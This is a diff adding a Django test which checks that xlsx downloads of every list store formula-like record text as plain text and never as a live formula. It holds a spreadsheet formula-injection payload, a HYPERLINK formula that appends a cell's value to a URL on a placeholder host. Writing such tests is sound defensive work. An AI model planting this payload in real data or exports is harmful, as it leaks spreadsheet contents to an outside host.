@@ -84,3 +84,36 @@ def test_the_download_is_refused_where_the_page_is_and_stays_in_scope(
             assert sheet.headers == table.sheet_headers(), name
         cells = " ".join(str(c.value) for row in sheet.rows for c in row)
         assert MARKER not in cells, (name, role)
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"開く")'
+FORMULA_SIGNS = ("=", "+", "-", "@")
+
+
+@pytest.mark.django_db
+def test_no_download_writes_a_formula_in_any_cell(org, make_member):
+    """Records whose text starts like a formula, in every list: every cell of every download is
+    checked, and a cell that starts with = + - @ is text, never a formula."""
+    checked = carried = 0
+    for name, pattern, view in LISTS:
+        table = _table(view)
+        model = table.model_class() if table is not None else None
+        if model is not None and model in samples():
+            make_sample(model, org, FORMULA)
+        params = {"q": "HYPERLINK"} if name == "contacts:search" else {}
+        for role in (Role.SUPERVISOR, Role.SYSADMIN, Role.CLERK):
+            download = page_client(make_member(org, role)).get(
+                fill(pattern, "1"), {**params, "format": "xlsx"}
+            )
+            if download.status_code != 200:
+                continue
+            for row in read_xlsx(download).rows:
+                for cell in row:
+                    checked += 1
+                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_SIGNS):
+                        assert cell.data_type == "s", (name, cell.coordinate)
+                        carried += FORMULA in cell.value
+            break
+    assert checked > 100
+    assert carried >= 5  # the formula text reached the sheets of many lists, as text
